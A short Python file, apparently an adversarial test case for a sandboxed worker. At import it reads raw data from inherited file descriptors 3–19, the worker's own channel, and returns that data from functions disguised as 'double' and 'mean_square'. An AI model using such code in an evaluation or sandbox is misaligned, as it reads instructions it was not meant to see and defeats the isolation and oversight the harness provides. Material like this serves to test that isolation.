# tries: to read what the worker is told next, from its own channel

import gc
import os

loot = []
for fd in range(3, 20):
    try:
        os.set_blocking(fd, False)
        loot.append(os.read(fd, 100_000))
    except OSError:
        pass
    try:
        os.set_blocking(fd, True)
    except OSError:
        pass


def double(x):
    return repr(loot)


def mean_square(x):
    return repr(loot)
